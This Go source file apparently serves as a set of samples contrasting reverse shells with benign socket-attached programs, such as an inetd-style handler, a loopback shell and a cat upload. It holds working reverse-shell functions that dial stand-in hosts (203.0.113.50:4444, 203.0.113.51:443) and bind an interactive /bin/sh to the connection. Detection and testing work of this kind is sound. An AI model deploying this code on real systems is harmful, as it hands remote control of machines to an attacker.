package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"syscall"
	"time"
)

const limit = 10 * time.Second // for one conversation

// reverseShell becomes a shell whose standard files are a connection that it made.
func reverseShell(args []string) error {
	conn, err := net.DialTimeout("tcp", arg(args, 0, "203.0.113.50:4444"), limit)
	if err != nil {
		return err
	}
	f, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	for fd := range 3 {
		if err := syscall.Dup3(int(f.Fd()), fd, 0); err != nil {
			return err
		}
	}
	return syscall.Exec("/bin/sh", []string{"/bin/sh", "-i"}, os.Environ())
}

// reverseShellChild starts such a shell beside itself.
func reverseShellChild(args []string) error {
	conn, err := net.DialTimeout("tcp", arg(args, 0, "203.0.113.51:443"), limit)
	if err != nil {
		return err
	}
	return shellOn(conn, "/bin/sh", "-i")
}

// shellOn runs a program with its standard files on conn, for a while.
func shellOn(conn net.Conn, argv ...string) error {
	defer conn.Close()
	f, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	defer f.Close()
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
	if err := cmd.Start(); err != nil {
		return err
	}
	stop := time.AfterFunc(limit, func() { _ = cmd.Process.Kill() })
	defer stop.Stop()
	if err := cmd.Wait(); err != nil {
		fmt.Println(err)
	}
	return nil
}

// inetd runs a handler for whoever connects, as inetd and tcpserver do: the
// shell's socket was accepted, nobody was called.
func inetd(args []string) error {
	ln, err := net.Listen("tcp", ":"+arg(args, 0, "7000"))
	if err != nil {
		return err
	}
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
		if err := shellOn(conn, "/bin/sh", arg(args, 1, "/srv/handler.sh")); err != nil {
			return err
		}
	}
}

// loopbackShell gives a shell a connection to its own machine.
func loopbackShell([]string) error {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	go func() {
		conn, err := ln.Accept()
		if err != nil {
			return
		}
		fmt.Fprintln(conn, "echo hello; exit")
		time.Sleep(time.Second)
		conn.Close()
	}()
	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		return err
	}
	return shellOn(conn, "/bin/sh")
}

// uploadByCat connects a program that is no shell to the network.
func uploadByCat(args []string) error {
	conn, err := net.DialTimeout("tcp", arg(args, 0, "logs.example.test:5140"), limit)
	if err != nil {
		return err
	}
	return shellOn(conn, "/bin/cat", "/etc/hostname")
}
